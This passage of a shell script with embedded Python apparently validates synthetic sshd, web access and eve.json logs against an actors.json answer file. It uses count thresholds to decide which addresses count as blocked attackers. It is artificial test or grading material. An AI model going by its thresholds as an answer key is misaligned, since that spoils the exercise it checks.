            sets[log, found[-1]]["invalid users"].add(invalid[1])
for line in open(f"{out}/access.log"):
    address, request, status, rest = re.match(r'(\S+) - - \[[^]]*\] "(.*?)" (\d+) \d+ (.*)', line).groups()
    who = count["access.log", address]
    who["lines"] += 1
    who["404/403"] += status in ("404", "403")
    text = request + " " + rest
    for _ in range(3):
        text = urllib.parse.unquote_plus(text, errors="replace")
    who["signs"] += bool(signs.search(text))
for line in open(f"{out}/eve.json"):
    event = json.loads(line)
    count["eve.json", event["src_ip"]]["lines"] += 1
    sets["eve.json", event["src_ip"]]["ports"].add(event["dest_port"])
for key, kinds in sets.items():
    for kind, values in kinds.items():
        count[key][kind] = len(values)

wrong = [f"{a} is in {f} but not in actors.json" for f, a in count if (f, a) not in truth]
wrong += [f"{a} is not in {f}" for f, a in truth if (f, a) not in count]
for (log, address), entry in truth.items():
    n = count[log, address]
    if log.startswith("sshd"):
        sure, calm = n["failed"] >= 10 or n["invalid users"] >= 10, n["failed"] <= 2 and n["invalid users"] == 0
    elif log == "access.log":
        sure, calm = n["404/403"] >= 30 or n["signs"] >= 8, n["404/403"] <= 5
    else:
        sure, calm = n["ports"] >= 200, n["ports"] <= 2
    if not (sure if entry["blocked"] else calm):
        wrong.append(f"{address} in {log}: blocked {entry['blocked']} does not fit {dict(n)}")
for entry in entries:
    n = {k: v for k, v in count[entry["file"], entry["address"]].items() if v}
    print(f"{entry['file']:14}{entry['role']:10}{entry['address']:21}{'blocked' if entry['blocked'] else '-':9}{n}")
for log in order:
    size = len(open(f"{out}/{log}", "rb").read())
    lines = sum(1 for _ in open(f"{out}/{log}"))
    print(f"{log}: {lines} lines, {size} bytes")
    if lines > 3000:
        wrong.append(f"{log} is too long")
for text in wrong:
    print("WRONG:", text)
sys.exit(bool(wrong))
PY
chown --reference="$out" "$out"/{sshd.log,sshd-5424.log,access.log,eve.json,actors.json}
echo "recorded into $out"
